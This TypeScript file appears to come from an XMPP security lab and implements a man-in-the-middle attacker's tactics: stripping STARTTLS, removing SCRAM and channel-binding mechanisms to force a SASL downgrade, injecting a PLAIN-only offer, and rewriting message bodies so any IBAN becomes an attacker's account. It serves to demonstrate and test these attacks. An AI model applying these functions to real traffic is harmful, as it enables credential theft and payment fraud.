import { clone as ltxClone, Element } from "ltx";
import { NS } from "../lab/core/ns.js";
import { isPlus } from "../lab/core/sasl/scram.js";
import { mechanismsOf } from "../lab/core/stanzas.js";

/**
 * The attacker's tactics as pure functions of parsed elements: no sockets, testable alone.
 * They work on parsed XML, never on regexes over bytes: striptls#4 missed the self-closing
 * `<starttls/>` form precisely because it matched bytes.
 */

export const TACTICS = [
  "observe",
  "strip-starttls",
  "strip-mechanisms",
  "intercept-tls",
  "tamper",
  "flip-bytes",
  "offer-plain",
  "block",
  "loot",
] as const;
export type TacticName = (typeof TACTICS)[number];

export interface Edit {
  el: Element;
  /** What was done, for the narration: "removed <starttls/>". */
  notes: string[];
}

function clone(el: Element): Element {
  return ltxClone(el) as Element;
}

/** strip-starttls: remove `<starttls/>` in all its forms (empty, self-closing, with `<required/>`). */
export function stripStartTls(features: Element): Edit & { removed: boolean; required: boolean } {
  const out = clone(features);
  const st = out.getChild("starttls", NS.tls);
  if (!st) return { el: features, notes: [], removed: false, required: false };
  const required = !!st.getChild("required");
  out.remove(st);
  return { el: out, notes: [required ? "removed <starttls><required/></starttls>" : "removed <starttls/>"], removed: true, required };
}

export const DEFAULT_STRIP_MECHANISMS = (m: string) => m.startsWith("SCRAM-") || isPlus(m);

/**
 * strip-mechanisms: remove chosen SASL mechanisms and the XEP-0440 channel-binding feature,
 * leaving what the attacker wants the client to use (RFC 6120 §13.9.4's downgrade).
 */
export function stripMechanisms(features: Element, drop: (m: string) => boolean = DEFAULT_STRIP_MECHANISMS): Edit {
  const out = clone(features);
  const notes: string[] = [];
  const mechs = out.getChild("mechanisms", NS.sasl);
  if (mechs) {
    const removed: string[] = [];
    for (const m of mechs.getChildren("mechanism")) {
      const name = m.getText().trim();
      if (drop(name)) {
        mechs.remove(m);
        removed.push(name);
      }
    }
    if (removed.length) notes.push(`removed ${removed.join(", ")}`);
  }
  const cb = out.getChild("sasl-channel-binding", NS.saslChannelBinding);
  if (cb) {
    out.remove(cb);
    notes.push("removed the channel-binding types (XEP-0440)");
  }
  return { el: notes.length ? out : features, notes };
}

/** offer-plain: a server that offers no mechanism before TLS is shown a PLAIN-only list anyway. */
export function offerPlain(features: Element): Edit {
  if (mechanismsOf(features).length > 0 || features.getChild("bind", NS.bind)) return { el: features, notes: [] };
  const out = clone(features);
  out.c("mechanisms", { xmlns: NS.sasl }).c("mechanism").t("PLAIN");
  return { el: out, notes: ["added a PLAIN-only <mechanisms/> the server never offered"] };
}

export interface TamperRule {
  find: string | RegExp;
  replace: string;
}

/** The story's rewrite: any IBAN becomes mallory's. */
export const IBAN_RULE: TamperRule = { find: /\b[A-Z]{2}\d{2}(?: ?[0-9A-Z]{4}){3,7}(?: ?[0-9A-Z]{1,3})?\b/g, replace: "GB33 BUKB 2020 1555 5555 55" };

/** tamper: rewrite a message body; returns null when the rule does not apply. */
export function tamperMessage(message: Element, rule: TamperRule): (Edit & { sent: string; delivered: string }) | null {
  const body = message.getChildText("body");
  if (body === null) return null;
  const delivered = body.replace(rule.find, rule.replace);
  if (delivered === body) return null;
  const out = clone(message);
  const b = out.getChild("body")!;
  b.children = [delivered];
  return { el: out, notes: [`rewrote the body: "${body}" → "${delivered}"`], sent: body, delivered };
}

export function parseTactics(list: string): TacticName[] {
  const names = list.split(",").map((s) => s.trim()).filter(Boolean);
  for (const n of names) {
    if (!(TACTICS as readonly string[]).includes(n)) {
      throw new Error(`unknown tactic "${n}"; choose from ${TACTICS.join(", ")}`);
    }
  }
  return names as TacticName[];
}
